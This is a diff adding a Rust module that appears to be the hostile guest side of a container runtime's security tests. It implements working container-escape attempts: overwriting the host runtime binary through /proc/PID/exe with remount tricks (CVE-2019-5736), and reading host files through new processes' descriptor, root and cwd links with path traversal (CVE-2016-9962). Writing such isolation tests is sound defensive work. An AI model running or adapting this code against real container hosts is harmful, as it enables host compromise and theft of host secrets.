@@ -1,0 +1,115 @@
+//! What a hostile process inside a container tries (`guest attack …`); the tests judge what it got hold of.
+
+use std::fs::{self, File, OpenOptions};
+use std::io::{Read, Write};
+use std::os::fd::{AsFd, AsRawFd};
+use std::os::unix::fs::OpenOptionsExt;
+use std::path::Path;
+
+use nix::mount::{MsFlags, mount};
+use serde_json::{Value, json};
+
+use crate::sys;
+
+/// The test writes this file when the attack is to end.
+const STOP: &str = "/tmp/stop";
+const OWN: &str = "/bin/guest";
+
+/// Runs an attack and gives what to print as `{"attack": …}`.
+///
+/// # Errors
+/// There is no such attack.
+pub fn act(words: &[&str]) -> Result<Value, String> {
+    match words {
+        ["exe-overwrite"] => Ok(exe_overwrite()),
+        ["spy", secret] => Ok(spy(secret)),
+        other => Err(format!("unknown attack {other:?}")),
+    }
+}
+
+/// Seizes the executable of every process that is not the guest, makes it writable by all means, overwrites it.
+///
+/// CVE-2019-5736: while the runtime runs in the container, /proc/PID/exe leads to its file on the host.
+fn exe_overwrite() -> Value {
+    let (mut seized, mut written) = (0, 0);
+    let mut seen = vec![];
+    while !Path::new(STOP).exists() {
+        for pid in pids() {
+            let link = format!("/proc/{pid}/exe");
+            let Ok(target) = fs::read_link(&link) else { continue };
+            if target == Path::new(OWN) || pid == 1 {
+                continue;
+            }
+            let Ok(exe) = File::open(&link) else { continue };
+            let Ok(handle) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&link) else { continue };
+            seized += 1;
+            if !seen.contains(&target) {
+                seen.push(target);
+            }
+            make_writable(&handle, &exe);
+            // A file that is being executed cannot be written (ETXTBSY): end the process, then try for a while.
+            let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), nix::sys::signal::Signal::SIGKILL);
+            for _ in 0..200 {
+                make_writable(&handle, &exe);
+                written += [exe.as_raw_fd(), handle.as_raw_fd()].into_iter().filter(|fd| overwrite(*fd)).count();
+            }
+        }
+    }
+    json!({"seized": seized, "written": written, "what": seen})
+}
+
+/// Everything that root with CAP_SYS_ADMIN can do about a read-only mount.
+fn make_writable(handle: &File, exe: &File) {
+    for fd in [handle.as_fd(), exe.as_fd()] {
+        let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
+        // Whatever the kernel refuses is no way in; whether one of them was shows in overwrite().
+        let _ = mount(None::<&str>, path.as_str(), None::<&str>, MsFlags::MS_REMOUNT | MsFlags::MS_BIND, None::<&str>);
+        let _ = mount(None::<&str>, path.as_str(), None::<&str>, MsFlags::MS_REMOUNT, None::<&str>);
+        let _ = sys::clear_read_only(fd);
+    }
+}
+
+fn overwrite(fd: i32) -> bool {
+    let path = format!("/proc/self/fd/{fd}");
+    OpenOptions::new().write(true).open(path).and_then(|mut f| f.write_all(b"#!/bin/owned\n")).is_ok()
+}
+
+/// Watches processes come into the container and looks for the host's files through their descriptors, root and cwd.
+///
+/// CVE-2016-9962; `secret` is a file's path on the host. What is read through a process is a leak.
+fn spy(secret: &str) -> Value {
+    let up = "../".repeat(24);
+    let mut leaks = vec![];
+    let (mut processes, mut probes) = (0u64, 0u64);
+    let mut last = pids().into_iter().max().unwrap_or(1);
+    while !Path::new(STOP).exists() {
+        // New numbers are given in order; some go to threads.
+        for pid in last + 1..last + 6 {
+            let dir = format!("/proc/{pid}");
+            if !Path::new(&dir).exists() {
+                continue;
+            }
+            processes += 1;
+            last = pid;
+            while Path::new(&dir).exists() && !Path::new(STOP).exists() {
+                let mut doors = vec!["root".to_owned(), "cwd".to_owned()];
+                doors.extend((3..24).map(|n| format!("fd/{n}")));
+                for door in doors {
+                    probes += 1;
+                    for path in [format!("{dir}/{door}/{up}{secret}"), format!("{dir}/{door}/{secret}")] {
+                        let mut text = String::new();
+                        if File::open(&path).and_then(|mut f| f.read_to_string(&mut text)).is_ok() && leaks.len() < 50 {
+                            leaks.push(json!({"door": format!("{dir}/{door}"), "text": text}));
+                        }
+                    }
+                }
+            }
+        }
+    }
+    json!({"processes": processes, "probes": probes, "leaks": leaks})
+}
+
+fn pids() -> Vec<i32> {
+    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
+    entries.filter_map(|e| e.file_name().to_string_lossy().parse().ok()).collect()
+}
